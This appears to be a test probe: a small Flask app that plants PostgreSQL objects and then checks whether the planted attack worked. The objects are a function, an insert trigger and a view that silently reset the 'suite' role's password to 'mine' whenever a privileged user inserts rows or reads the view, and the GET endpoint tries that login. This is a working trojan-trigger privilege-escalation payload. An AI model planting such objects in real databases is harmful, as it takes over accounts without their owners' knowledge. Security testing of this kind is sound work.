import os

import psycopg
from flask import Flask

PLANTED = """
CREATE TABLE books (id int);
CREATE FUNCTION grab() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE suite PASSWORD ' || quote_literal('mine');
    RETURN true;
EXCEPTION WHEN OTHERS THEN
    RETURN false;
END $$;
CREATE FUNCTION on_insert() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM grab(); RETURN NEW; END $$;
CREATE TRIGGER t BEFORE INSERT ON books FOR EACH ROW EXECUTE FUNCTION on_insert();
CREATE VIEW shown AS SELECT id, grab() FROM books;
"""


def create_app():
    app = Flask(__name__)

    @app.post("/")
    def plant():
        with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as session:
            session.execute(PLANTED)
        return ""

    @app.get("/")
    def tell():
        try:
            psycopg.connect(os.environ["DATABASE_URL"], user="suite", password="mine")
            return "through"
        except psycopg.OperationalError as error:
            print(error, flush=True)
            return "refused"

    return app
